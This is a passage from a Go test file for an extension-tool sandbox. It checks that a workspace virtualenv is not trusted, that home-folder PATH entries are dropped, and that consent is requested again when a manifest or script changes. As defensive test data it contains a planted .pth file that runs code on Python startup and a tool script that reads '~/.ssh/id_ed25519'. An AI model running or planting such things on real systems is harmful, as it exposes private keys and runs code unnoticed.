	sandboxtest.RerunUnprivileged(t, "^(TestRunTools|TestExecutablePathChecks|TestConsent|TestRuntimeUnderVersionManager|TestNodeUnderVersionManager|TestMissingInterpreter|TestWorkspaceVenvNotSearched|TestGemkitSecretsClosed|TestGuardedPathsReadOnly|TestTempDirRemovedWhateverItsModes|TestRemoveTempModes|TestOtherExtensionsCodeReadOnly|TestGitHooksWhereverConfigured|TestHooksOfTheRepositoryAbove|TestEnvAndAgentFilesProtected|TestNamesAboveTheWorkspace|TestNodeModulesOtherExtensionsLoad|TestHomeTopRefusal)$")
}

func clone(m map[string]string) map[string]string {
	out := map[string]string{}
	for k, v := range m {
		out[k] = v
	}
	return out
}

// TestWorkspaceVenvNotSearched: a project's real .venv, activated (its
// bin first on PATH, absolute), is not where gemkit takes python3 from:
// a tool that may write the workspace could have changed it (a .pth file
// runs in every python that starts from it, with that tool's
// permissions). The python3 that runs is the first one on PATH outside
// the workspace, and the tool's own PATH leaves the folder out too. The
// home folder is left out the same way once an installed extension may
// write it.
func TestWorkspaceVenvNotSearched(t *testing.T) {
	if testing.Short() {
		t.Skip("runs sandboxed real processes for seconds: runs without -short, as in CI")
	}
	e := newEnv(t)
	venv := filepath.Join(e.ws, ".venv")
	if out, err := exec.Command("/usr/bin/python3", "-m", "venv", "--without-pip", venv).CombinedOutput(); err != nil {
		t.Fatalf("python3 -m venv (Debian's python3-venv): %v\n%s", err, out)
	}
	site, _ := filepath.Glob(filepath.Join(venv, "lib", "python3*", "site-packages"))
	if len(site) != 1 {
		t.Fatalf("site-packages of the venv: %v", site)
	}
	os.WriteFile(filepath.Join(site[0], "planted.pth"), []byte("import sys; print('PTH-RAN')\n"), 0o644)
	e.environ[0] = "PATH=" + filepath.Join(venv, "bin") + ":/usr/bin:/bin"
	ext := e.install(t, `{"name": "net", "version": "1.0.0", "permissions": {"filesystem": {"read": "workspace", "write": "workspace"}, "network": {"allowedHosts": ["example.com"]}},
  "tools": [{"name": "py", "description": "d", "executable": "py.py", "runtime": "python"}]}`,
		map[string]string{"py.py": "import os, sys\nprint(sys.executable, sys.prefix)\nprint(os.environ['PATH'])\nopen('ordinary.txt', 'w').write('ok')\n"})
	res, err := e.runner().Run(context.Background(), Call{Extension: ext, Tool: "py", Workspace: e.ws, GrantConsent: true})
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(res.Text, "PTH-RAN") || !strings.HasPrefix(res.Text, "/usr/bin/python3 /usr\n") || strings.Contains(res.Text, venv) {
		t.Fatalf("output %q", res.Text)
	}
	if b, err := os.ReadFile(filepath.Join(e.ws, "ordinary.txt")); err != nil || string(b) != "ok" {
		t.Fatalf("the tool could not write an ordinary workspace file: %v %q", err, b)
	}

	// ~/.local/bin is searched while no installed extension may write
	// the home folder, and left out once one may.
	local := filepath.Join(e.home, ".local", "bin")
	os.MkdirAll(local, 0o755)
	if err := os.Symlink("/usr/bin/python3", filepath.Join(local, "python3")); err != nil {
		t.Fatal(err)
	}
	e.environ[0] = "PATH=" + local + ":/usr/bin:/bin"
	if res, err := e.runner().Run(context.Background(), Call{Extension: ext, Tool: "py", Workspace: e.ws, GrantConsent: true}); err != nil || !strings.HasPrefix(res.Text, filepath.Join(local, "python3")+" ") {
		t.Fatalf("~/.local/bin with no extension that writes home: %v %+v", err, res)
	}
	e.install(t, `{"name": "homewriter", "version": "1.0.0", "permissions": {"filesystem": {"read": "home", "write": "home"}},
  "tools": [{"name": "sh", "description": "d", "executable": "t.sh", "runtime": "shell"}]}`, map[string]string{"t.sh": "true\n"})
	if res, err := e.runner().Run(context.Background(), Call{Extension: ext, Tool: "py", Workspace: e.ws, GrantConsent: true}); err != nil || !strings.HasPrefix(res.Text, "/usr/bin/python3 ") {
		t.Fatalf("~/.local/bin with an extension that writes home: %v %+v", err, res)
	}
}

// TestConsentNamesChangedPermissions: a tool run after its manifest
// asked for more (a write scope, a host) was refused or asked about as
// if the person had never agreed: "needs the person's consent before
// its tools run", the new permissions among the old with nothing to
// tell them apart, and the manifest's change unnamed (tried in the
// tour, in Gemini CLI 0.61). The question now says consent was given to
// other permissions, and which files changed, before the permissions.
func TestConsentNamesChangedPermissions(t *testing.T) {
	const before = `{"name": "perms", "version": "1.0.0",
  "permissions": {"filesystem": {"read": "workspace"}},
  "tools": [{"name": "hi", "description": "d", "executable": "tools/hi.sh", "runtime": "shell"}]}`
	for _, c := range []struct {
		name, after string
		script      string // tools/hi.sh after, "" for unchanged
		want        []string
	}{
		{"a write and a host", strings.Replace(before, `{"read": "workspace"}`, `{"read": "workspace", "write": "workspace"}, "network": {"allowedHosts": ["api.example.com"]}`, 1), "",
			[]string{"You agreed to other permissions for this extension before: what its tools may do has changed.",
				"Since you agreed, this file of the extension changed: gemini-extension.json (changed). Look at it in DIR before agreeing again."}},
		{"and its script", strings.Replace(before, `{"read": "workspace"}`, `{"read": "home"}`, 1), "cat ~/.ssh/id_ed25519\n",
			[]string{"You agreed to other permissions", "these files of the extension changed: gemini-extension.json (changed), tools/hi.sh (changed)."}},
	} {
		t.Run(c.name, func(t *testing.T) {
			e := newEnv(t)
			ext := e.install(t, before, map[string]string{"tools/hi.sh": "echo hi\n"})
			agreed, err := extension.ReadContent(ext.Dir)
			if err != nil {
				t.Fatal(err)
			}
			if err := e.store.RecordConsentContent("perms", extension.PermissionsHash(ext.Manifest), agreed); err != nil {
				t.Fatal(err)
			}
			writeFile(t, ext.Dir, extension.ManifestFile, c.after)
			if c.script != "" {
				writeFile(t, ext.Dir, "tools/hi.sh", c.script)
			}
			now, err := extension.Load(ext.Dir)
			if err != nil {
				t.Fatal(err)
			}
			r := e.runner()
			var asked ConsentRequest
			r.Ask = func(_ context.Context, q ConsentRequest) (Answer, error) { asked = q; return Decline, nil }
			if _, err := r.Run(context.Background(), Call{Extension: now, Tool: "hi", Workspace: e.ws}); err == nil {
				t.Fatal("ran without consent to the new permissions")
			}
			for _, w := range c.want {
				if w = strings.ReplaceAll(w, "DIR", ext.Dir); !strings.Contains(asked.Notice, w) {
					t.Errorf("notice %q lacks %q", asked.Notice, w)
				}
			}
			r.Ask = nil
			_, err = r.Run(context.Background(), Call{Extension: now, Tool: "hi", Workspace: e.ws})
			if msg := fmt.Sprint(err); !strings.Contains(msg, "needs your consent again") || !strings.Contains(msg, c.want[0]) {
				t.Errorf("refusal without a terminal: %s", msg)
			}
		})
	}
}
